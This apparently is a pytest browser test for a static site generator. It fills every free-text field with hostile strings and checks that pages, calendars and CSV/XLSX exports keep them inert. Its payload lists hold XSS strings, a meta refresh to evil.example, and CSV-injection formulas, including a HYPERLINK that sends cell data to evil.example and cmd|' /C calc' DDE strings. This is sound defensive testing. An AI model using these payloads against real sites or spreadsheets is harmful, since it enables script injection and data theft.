"""Hostile text in every free-text field, built for real and opened in Chromium, and exported.

Every string value of the demo's program files, questionnaire and organisation file (and the
cycle and feedback run labels in mkdocs.yml, and every learner comment) is replaced by a hostile one: quotes that end attributes, tags,
``javascript:`` and ``data:`` URLs, a meta refresh, template syntax, newlines, right-to-left
marks and very long words. A value is kept only if its file still passes the model's checks, so
fields added later are covered without a list to keep up to date. The site is then built with a
keystore, and every page and every decrypted report is opened at 375 px: nothing injected may
exist in the DOM (the Content-Security-Policy would stop a script, so it cannot be the only
check), nothing may navigate or fetch elsewhere, no CSP violation may occur, and nothing may be
wider than the screen. Every export (`programs export`, `scores`, `feedback`) of inputs with a
spreadsheet formula in every free-text field holds them as data, never as formulas.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import itertools
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any, Callable, Iterator

from openpyxl import load_workbook
import pytest
from playwright.sync_api import Error as PlaywrightError
import yaml

from lchc_gen.cli import main as cli
from lchc_gen.programs.load import follow_up_reference_problems, reference_problems
from lchc_gen.programs.model import Program
from lchc_gen.programs.staffing import FLOOR_FILE, Floor, learner_problems, load_floor
from lchc_gen.survey.model import Actions, Organisation, Questionnaire, organisation_problems, questionnaire_problems
from lchc_gen.validation import validate
from lchc_gen.yamlsrc import Source, parse

from .conftest import REPO, build_site, serve_at_localhost, strengthen

pytestmark = pytest.mark.browser
WAIT = 30_000

PWN = "data-pwned"
HOSTILE = [
    f'"><b {PWN}>q</b><script>window.__pwned=1</script>',
    f"'><img src=x {PWN} onerror=window.__pwned=1>",
    f"</title></textarea></script></style><b {PWN}>t</b>",
    '0;url=https://evil.example/ " http-equiv="refresh',
    "javascript:window.__pwned=1//",
    f"data:text/html,<b {PWN}>d</b>",
    f'https://evil.example/"><b {PWN}>u</b>',
    f"[click](javascript:window.__pwned=1) <b {PWN}>m</b> **x** {{{{ 7*7 }}}} {{% raw %}}",
    f"line one\nline two <b {PWN}>n</b>\r\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT",
    f"\u202eRTL\u202c <b {PWN}>r</b> & &amp; &lt;",
    "Unbreakable" * 40,
    "A long phrase that goes on " * 30,
]
# Spreadsheet formulas (OWASP: CSV injection): text to a page, and data in every export.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Click for agenda")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=HYPERLINK(\"http://evil.example/\")",
    f'=HYPERLINK("javascript:window.__pwned=1","<b {PWN}>f</b>")',
]
HOSTILE += FORMULAS



def _kept_as_is(name: str, leaf: tuple) -> bool:
    """Values the response files refer to: ids (of questions, teams, the questionnaire) and the
    scale's labels, which answers are matched by. Changing them would only make every answer
    invalid; they are printed through the same escaping as every other text."""
    if name.endswith(FLOOR_FILE):  # location and channel names are what programs' learners refer to
        return leaf[-1] == "name"
    return name.startswith("survey/") and (leaf[-1] == "id" or leaf[0] in ("scale", "na_labels"))


def _string_paths(node: Any, prefix: tuple = ()) -> Iterator[tuple]:
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _string_paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _string_paths(v, (*prefix, i))
    elif isinstance(node, str):
        yield prefix


def _set(tree: Any, path: tuple, value: Any) -> None:
    for part in path[:-1]:
        tree = tree[part]
    tree[path[-1]] = value


def _program_ok(src: Source) -> bool:
    program, problems = validate(Program, src)
    if program is None or problems:
        return False
    floor, _ = load_floor(REPO / "programs", "programs")  # the learners' locations and the sessions' cohorts agree
    return not reference_problems(src) + follow_up_reference_problems(src) + learner_problems(program, src, floor, "programs")


def _floor_ok(src: Source) -> bool:
    floor, problems = validate(Floor, src)
    return floor is not None and not problems


def _poison_programs(root: Path, payloads: Iterator[str], tries: int = len(HOSTILE)) -> dict[str, int]:
    """Every program file, and the floor file beside them (its own checks)."""
    kept = {}
    for program in sorted((root / "programs").glob("*.yml")):
        ok = _floor_ok if program.name == FLOOR_FILE else _program_ok
        kept[program.name] = _poison(program, f"programs/{program.name}", ok, payloads, tries)
    return kept


def _questionnaire_ok(src: Source) -> bool:
    q, problems = validate(Questionnaire, src)
    return q is not None and not problems and not questionnaire_problems(q, src)


def _organisation_ok(src: Source) -> bool:
    org, problems = validate(Organisation, src)
    return org is not None and not problems and not organisation_problems(org, src, ["2026-H1", "2026-H2"])


def _actions_ok(src: Source) -> bool:
    actions, problems = validate(Actions, src)
    return actions is not None and not problems


def _poison(path: Path, name: str, ok: Callable[[Source], bool], payloads: Iterator[str], tries: int = len(HOSTILE)) -> int:
    """Replace every string leaf of a YAML file by the first hostile text its checks accept."""
    tree = yaml.safe_load(path.read_text(encoding="utf-8"))
    kept = 0
    for leaf in list(_string_paths(tree)):
        if _kept_as_is(name, leaf):
            continue
        for _ in range(tries):
            trial = copy.deepcopy(tree)
            _set(trial, leaf, next(payloads))
            if ok(parse(yaml.safe_dump(trial, allow_unicode=True), name)):
                tree, kept = trial, kept + 1
                break
    path.write_text(yaml.safe_dump(tree, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return kept


def _poison_comments(path: Path, payloads: Iterator[str]) -> int:
    """Learners' free-text comments (published encrypted, shown to programs' owners)."""
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    # the native column, and the demo's Google Forms question mapped onto it in mkdocs.yml
    column = next((c for c in ("comment", "Anything else you would like to tell us?") if rows and c in rows[0]), None)
    if column is None:
        return 0
    for row in rows:
        if row[column]:
            row[column] = next(payloads)
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return sum(1 for row in rows if row[column])


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("hostile")
    for name in ("content", "programs", "templates", "survey", "feedback"):
        shutil.copytree(REPO / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    payloads = itertools.cycle(HOSTILE)
    kept = _poison_programs(root, payloads)
    kept["lchc.yml"] = _poison(root / "survey" / "lchc.yml", "survey/lchc.yml", _questionnaire_ok, payloads)
    kept["org.yml"] = _poison(root / "survey" / "org.yml", "survey/org.yml", _organisation_ok, payloads)
    kept["comments"] = sum(_poison_comments(f, payloads) for f in sorted((root / "feedback").glob("*.csv")))
    kept["actions.yml"] = _poison(root / "survey" / "actions.yml", "survey/actions.yml", _actions_ok, payloads)
    # The gaps file names the questionnaire's themes, hostile now too.
    questions = yaml.safe_load((root / "survey" / "lchc.yml").read_text())["questions"]
    gaps = yaml.safe_load((root / "survey" / "gaps.yml").read_text())
    for link, theme in zip(gaps["themes"], dict.fromkeys(q["theme"] for q in questions)):
        link["theme"] = theme
    (root / "survey" / "gaps.yml").write_text(yaml.safe_dump(gaps, sort_keys=False, allow_unicode=True))
    config_text = (root / "mkdocs.yml").read_text()
    config_text = config_text.replace("label: First half 2026", "label: " + yaml.safe_dump(HOSTILE[0], default_style='"').strip())
    config_text = config_text.replace("label: Second half 2026", "label: " + yaml.safe_dump(HOSTILE[2], default_style='"').strip())
    config_text = config_text.replace("run: June 2026", "run: " + yaml.safe_dump(HOSTILE[1], default_style='"').strip())
    (root / "mkdocs.yml").write_text(config_text)

    from lchc_gen.access.demo import demo_keystore, demo_passphrase

    org = yaml.safe_load((root / "survey" / "org.yml").read_text())
    readers = {t["manager"] for t in org["teams"]} | set(org["admins"])
    keystore = root / ".secrets" / "demo.keystore.json"
    demo_keystore(keystore, root / ".secrets" / "handout.tsv", readers, iterations=1_000)
    admin = org["admins"][0]
    strengthen(keystore, {admin: demo_passphrase(admin)})
    site = build_site(root, strict=False)
    return {"site": site, "kept": kept, "admin": admin, "passphrase": demo_passphrase(admin)}


def test_every_file_took_hostile_text(hostile_site: dict[str, Any]) -> None:
    # Titles, summaries, descriptions, names, question texts: dozens per file, or the corpus
    # tests nothing.
    kept = dict(hostile_site["kept"])
    assert kept.pop(FLOOR_FILE) >= 8, hostile_site["kept"]  # every band's `why`; the names stay (programs refer to them)
    assert all(n >= 10 for n in kept.values()), hostile_site["kept"]


def test_calendars_hold_no_injected_lines(hostile_site: dict[str, Any]) -> None:
    calendars = list(hostile_site["site"].rglob("*.ics"))
    assert calendars
    for ics in calendars:
        lines = re.sub(r"\r\n[ \t]", "", ics.read_bytes().decode("utf-8")).split("\r\n")
        assert "SUMMARY:injected" not in lines, ics
        assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == len([x for x in lines if x.startswith("UID:")])


WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
VERDICT = """() => ({
  injected: document.querySelectorAll('[data-pwned]').length,
  refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
  pwned: window.__pwned === undefined ? null : String(window.__pwned),
  csp: window.__csp,
  wide: document.documentElement.scrollWidth > window.innerWidth
        ? [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > window.innerWidth + 1)
            .slice(-3).map(e => e.tagName + '.' + e.className) : [],
})"""


def _page_urls(site: Path) -> list[str]:
    skip = ("_access/", "assets/", "search/")
    return sorted(
        str(p.relative_to(site).parent).replace(".", "") + "/" if p.name == "index.html" else str(p.relative_to(site))
        for p in site.rglob("*.html")
        if not str(p.relative_to(site)).startswith(skip)
    )


def test_hostile_text_stays_text_on_every_page_and_report(browser, hostile_site: dict[str, Any]) -> None:
    context = browser.new_context(viewport={"width": 375, "height": 812})
    base = serve_at_localhost(context, hostile_site["site"])
    elsewhere: list[str] = []
    context.route(re.compile(r"^(?!http://localhost/).*"), lambda route: (elsewhere.append(route.request.url), route.abort()))
    context.add_init_script(WATCH)
    page = context.new_page()
    left: list[str] = []
    page.on("framenavigated", lambda frame: left.append(frame.url) if not frame.url.startswith(base) else None)

    failures: dict[str, Any] = {}

    def check(where: str) -> None:
        page.wait_for_timeout(100)  # a meta refresh of 0 s, or an onerror handler, has fired by now
        try:
            verdict = page.evaluate(VERDICT)
        except PlaywrightError as exc:  # the page went away under us: a refresh or a script
            failures[where] = f"{exc.message.splitlines()[0]} (now at {page.url})"
            return
        bad = {k: v for k, v in verdict.items() if v}
        if bad:
            failures[where] = bad

    urls = [u.lstrip("/") for u in _page_urls(hostile_site["site"])]
    assert len(urls) >= 10
    for url in urls:
        try:
            page.goto(base + url)
        except PlaywrightError as exc:  # e.g. a meta refresh to an address the route refused
            failures[url] = exc.message.splitlines()[0]
            continue
        check(url)

    page.goto(base + "reports/")
    page.fill("#lchc-reader", hostile_site["admin"])
    page.fill("#lchc-passphrase", hostile_site["passphrase"])
    page.click(".lchc-signin button[type=submit]")
    page.wait_for_selector(".lchc-report-list li", timeout=WAIT)
    check("reports/ (signed in)")
    reports = page.eval_on_selector_all(".lchc-report-list a", "links => links.map(a => a.href)")
    assert len(reports) >= 10  # an admin reads every team's report and the overviews
    for href in reports:
        page.goto(href)
        page.wait_for_selector(".lchc-report-body h1", timeout=WAIT)
        check(href.removeprefix(base))
    context.close()

    found = {"navigated away": left, "fetched from elsewhere": elsewhere, "pages": failures}
    assert not (left or elsewhere or failures), found


# --- exports: data, never formulas ---------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _exports(root: Path) -> dict[str, Any]:
    before = Path.cwd()
    os.chdir(root)
    try:
        out: dict[str, Any] = {}
        for name, args in (("scores", ["scores", "--format", "csv"]), ("feedback", ["feedback", "--format", "csv"])):
            text = io.StringIO()
            with contextlib.redirect_stdout(text):
                assert cli(args) == 0, name
            out[name] = list(csv.reader(io.StringIO(text.getvalue())))
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
            assert cli(["programs", "export", "--out", "programs.xlsx"]) == 0
            out["import"] = (cli(["programs", "import", "programs.xlsx", "--out", "imported"]), err.getvalue())
        out["workbook"] = load_workbook(root / "programs.xlsx")
        return out
    finally:
        os.chdir(before)


@pytest.fixture(scope="module")
def formula_project(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The demo's inputs with a formula in every free-text field (and in every run label)."""
    root = tmp_path_factory.mktemp("formulas")
    for name in ("programs", "survey", "feedback"):
        shutil.copytree(REPO / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    payloads = itertools.cycle(FORMULAS)
    kept = _poison_programs(root, payloads, len(FORMULAS))
    kept["org.yml"] = _poison(root / "survey" / "org.yml", "survey/org.yml", _organisation_ok, payloads, len(FORMULAS))
    kept["comments"] = sum(_poison_comments(f, payloads) for f in sorted((root / "feedback").glob("*.csv")))
    runs = iter(FORMULAS)
    config = re.sub(r'run: (?:"[^"]*"|[^,}\n]+)', lambda m: f"run: {json.dumps(next(runs))}", (REPO / "mkdocs.yml").read_text())
    (root / "mkdocs.yml").write_text(config)
    sources = {p.name: parse(p.read_text(encoding="utf-8"), p.name).data for p in (root / "programs").glob("*.yml")}
    return {"root": root, "kept": kept, "sources": sources, **_exports(root)}


def _unsafe(field: str) -> bool:
    """A CSV field a spreadsheet program would take for a formula: not quoted, not a plain number."""
    if not field.startswith(FORMULA_STARTS):
        return False
    try:
        float(field)
        return False
    except ValueError:
        return True


def test_every_free_text_field_took_a_formula(formula_project: dict[str, Any]) -> None:
    kept = dict(formula_project["kept"])
    assert kept.pop(FLOOR_FILE) >= 8, formula_project["kept"]
    assert all(n >= 10 for n in kept.values()), formula_project["kept"]


def test_no_exported_workbook_cell_is_a_formula_and_import_reads_every_text_back(formula_project: dict[str, Any]) -> None:
    book = formula_project["workbook"]
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    shown = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "_x000D_"))]
    assert len(shown) >= 20 and all(c.data_type == "s" for c in shown)  # the payloads arrived, as text
    assert formula_project["import"] == (0, "")
    imported = formula_project["root"] / "imported"
    for name, source in formula_project["sources"].items():
        assert parse((imported / name).read_text(encoding="utf-8"), name).data == source, name  # as the loader reads it


@pytest.mark.parametrize("export, columns", [("scores", ("team_name", "manager_name")), ("feedback", ("run", "text"))])
def test_no_exported_csv_field_starts_like_a_formula(formula_project: dict[str, Any], export: str, columns: tuple[str, ...]) -> None:
    header, *rows = formula_project[export]
    assert rows
    unsafe = [(header[i], v) for row in rows for i, v in enumerate(row) if _unsafe(v)]
    assert unsafe == []
    assert not any(_unsafe(h) for h in header)
    for column in columns:  # the payloads arrived, quoted
        values = [row[header.index(column)] for row in rows]
        assert any(v.startswith("'") and v[1:].startswith(FORMULA_STARTS) for v in values), (column, values[:5])
